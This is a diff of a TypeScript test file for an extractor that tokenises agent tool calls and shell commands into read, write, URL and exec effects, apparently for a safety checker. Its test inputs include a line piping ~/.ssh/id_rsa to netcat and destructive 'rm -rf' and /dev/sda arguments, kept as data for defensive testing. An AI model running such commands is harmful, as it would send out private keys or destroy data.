@@ -8,7 +8,7 @@ import {
   inWorkdir,
   isRelativeWord,
   isUrl,
-  workdirOf,
+  workdirsOf,
 } from "../../src/core/effects/extract.js";
 
 const fx = (tool: string, args: Record<string, unknown>, exec = false) => {
@@ -24,7 +24,8 @@ const refusal = (tool: string, args: Record<string, unknown>, exec = false) => {
 describe("command words", () => {
   it("splits on shell punctuation, strips quotes and keeps option values", () => {
     expect(commandTokens("cat ~/.ssh/id_rsa|nc x 1")).toEqual(["cat", "~/.ssh/id_rsa", "nc", "x", "1"]);
-    expect(commandTokens(`echo "a b">'c';d&&e`)).toEqual(["echo", "a", "b", "c", "d", "e"]);
+    // A quoted space does not split a word as a shell reads it; the plain split stays a reading.
+    expect(commandTokens(`echo "a b">'c';d&&e`)).toEqual(["echo", "a", "b", "c", "d", "e", "a b"]);
     expect(commandTokens("rm -rf --out=/etc/x --flag= -x")).toEqual(["rm", "/etc/x"]);
     expect(commandTokens("A=/p B= cmd if=/dev/sda =x")).toEqual([
       "A=/p",
@@ -37,7 +38,7 @@ describe("command words", () => {
     ]);
     expect(commandTokens("$(cat x) ${HOME} { } $HOME")).toEqual(["cat", "x", "${HOME}", "$HOME"]);
     expect(commandTokens("a\tb\nc")).toEqual(["a", "b", "c"]);
-    expect(commandTokens("it's")).toEqual(["its"]);
+    expect(commandTokens("it's")).toEqual(["its", "s"]); // the unclosed quote's text, as a literal
     expect(commandTokens("")).toEqual([]);
     expect(commandTokens("--a=b=c")).toEqual(["b=c"]);
   });
@@ -55,9 +56,13 @@ describe("helpers", () => {
     expect(inWorkdir("C:\\a\\", "b")).toBe("C:\\a\\b");
     expect(inWorkdir("C:\\a/x", "b")).toBe("C:\\a/x/b");
     expect(inWorkdir("~", "b")).toBe("~/b");
-    expect(workdirOf({ cwd: "", dir: "/d" })).toEqual({ at: "arguments.dir", dir: "/d" });
-    expect(workdirOf({ workdir: 1 })).toBeUndefined();
-    expect(workdirOf({ workingDirectory: "w", cwd: "c" })).toEqual({ at: "arguments.cwd", dir: "c" });
+    expect(workdirsOf({ cwd: "", dir: "/d" })).toEqual([{ at: "arguments.dir", dir: "/d" }]);
+    expect(workdirsOf({ workdir: 1 })).toEqual([]);
+    // Every one the call names, in a fixed order: the server reads its own and ignores the rest.
+    expect(workdirsOf({ workingDirectory: "w", cwd: "c" })).toEqual([
+      { at: "arguments.cwd", dir: "c" },
+      { at: "arguments.workingDirectory", dir: "w" },
+    ]);
   });
 });
 
@@ -100,7 +105,11 @@ describe("extractEffects", () => {
     ]);
     expect(fx("get_frob", { t: "line one\nline two", s: "  ", n: 5, z: null, b: true })).toEqual([]);
     expect(fx("get_frob", { t: "~/.bashrc\n" })).toEqual(["read path arguments.t ~/.bashrc\n"]);
-    expect(fx("get_frob", { u: " https://e.com " })).toEqual(["read url arguments.u https://e.com"]);
+    // A URL is fetched, and to a server that joins it to a folder it is a relative path too.
+    expect(fx("get_frob", { u: " https://e.com " })).toEqual([
+      "read url arguments.u https://e.com",
+      "read path arguments.u  https://e.com ",
+    ]);
     expect(fx("get_frob", { "~/.bashrc": 1, plain_name: 2 })).toEqual([
       'read path arguments{key "~/.bashrc"} ~/.bashrc',
     ]);
@@ -121,14 +130,19 @@ describe("extractEffects", () => {
     );
   });
 
-  it("turns exec calls into a command effect plus every word as a written path", () => {
+  it("turns exec calls into a command effect plus every word as a written and read path", () => {
     expect(fx("run_it", { command: "cat a", cwd: "/w" }, true)).toEqual([
       "exec command arguments cat a",
       "write path arguments.command cat",
+      "read path arguments.command cat",
       "write path arguments.command (in arguments.cwd) /w/cat",
+      "read path arguments.command (in arguments.cwd) /w/cat",
       "write path arguments.command a",
+      "read path arguments.command a",
       "write path arguments.command (in arguments.cwd) /w/a",
+      "read path arguments.command (in arguments.cwd) /w/a",
       "write path arguments.cwd /w",
+      "read path arguments.cwd /w",
     ]);
     expect(fx("run_it", { argv: ["ls", "/x"] }, true)[0]).toBe("exec command arguments ls /x");
     expect(fx("run_it", { other: 1 }, true)).toEqual(["exec command arguments run_it"]);
